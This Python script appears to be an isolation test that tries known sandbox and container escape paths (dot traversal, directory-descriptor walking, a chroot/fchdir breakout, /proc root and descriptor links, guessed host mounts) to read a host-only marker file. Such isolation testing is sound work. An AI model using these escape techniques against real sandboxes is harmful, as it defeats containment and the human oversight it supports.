"""Reads a file of the host by every path that is known to lead out of a root."""
import glob
import os

from escapekit import Probe, params, read_some

probe = Probe("host_files")
marker = params()["marker"]  # exists on the host only


def holds_marker(path):
    text = read_some(path)
    return text.decode() if text and text.startswith(b"MARKER ") else None


def by_dots():
    return holds_marker(os.getcwd() + "/" + "../" * 40 + marker.lstrip("/"))


def by_relative_fd():
    fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(10):
        up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = up
    inner = os.open(marker.lstrip("/"), os.O_RDONLY, dir_fd=fd)
    return os.read(inner, 100) or None


def by_chroot():
    fd = os.open("/", os.O_RDONLY)
    os.chroot("/usr")
    os.fchdir(fd)
    for _ in range(20):
        os.chdir("..")
    return holds_marker(marker.lstrip("/"))


def by_processes(link):
    for base in glob.glob(f"/proc/[0-9]*/{link}"):
        try:
            found = holds_marker(base + marker)
        except OSError:
            continue
        if found:
            return f"{base}: {found}"


def by_descriptors():
    for base in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/dev/fd/*"):
        for up in ("", "/..", "/../.."):
            try:
                found = holds_marker(base + up + marker)
            except OSError:
                continue
            if found:
                return f"{base}: {found}"


probe.attempt("path", holds_marker, marker)
probe.attempt("dots", by_dots)
probe.attempt("dots_by_fd", by_relative_fd)
for link in ("root", "cwd"):
    probe.attempt(f"proc_{link}", by_processes, link)
probe.attempt("descriptors", by_descriptors)
for root in ("/host", "/rootfs", "/mnt", "/media", "/oldroot", "/.old", "/img", "/src", "/var/lib/mayfly", "/run/mayfly"):
    probe.attempt(f"under{root}", holds_marker, root + marker)
probe.attempt("chroot", by_chroot)  # last: it changes the root where it works
probe.done()
